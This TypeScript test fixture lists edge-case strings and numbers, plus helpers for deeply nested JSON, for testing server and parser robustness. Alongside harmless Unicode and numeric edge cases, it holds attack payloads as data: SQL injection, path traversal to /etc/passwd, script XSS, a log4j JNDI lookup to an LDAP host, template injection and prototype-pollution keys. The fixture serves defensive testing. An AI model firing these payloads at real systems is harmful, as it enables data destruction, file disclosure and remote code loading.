/**
 * Values that have broken servers before: text that looks like a number, a keyword or markup,
 * control and invisible characters, unpaired surrogates (valid in JSON, invalid UTF-16), right to
 * left overrides, very long text; numbers at the edges of IEEE 754. Every one is valid JSON.
 */
export const hostileStrings: readonly string[] = [
  ' ',
  '\t\n',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '-0',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '0x1F',
  "'; DROP TABLE events; --",
  '../../../etc/passwd',
  '%00',
  '%2F..%2F',
  '\u0000',
  '\u0007bell',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '\u202eright to left',
  '\ufeffbom',
  'e\u0301\u0301\u0301',
  'Zoë Ça fait 10 €',
  '日本語のテキスト',
  '🧯🔥'.repeat(50),
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, sent as plain text on purpose
  '${jndi:ldap://example.invalid/a}',
  '{{constructor.constructor("return process")()}}',
  '__proto__',
  'constructor',
  'x'.repeat(10_000),
  'é'.repeat(70_000),
];

export const hostileNumbers: readonly number[] = [
  0,
  -0,
  -1,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MIN_SAFE_INTEGER,
  Number.MIN_VALUE,
  0.1 + 0.2,
];

/** `depth` arrays in one another: `[[[…]]]`. */
export function nested(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let level = 0; level < depth; level += 1) value = [value];
  return value;
}

/** The same as JSON text, deeper than anything a parser should recurse into without limits. */
export const deepJsonText = (depth: number) => `${'['.repeat(depth)}1${']'.repeat(depth)}`;
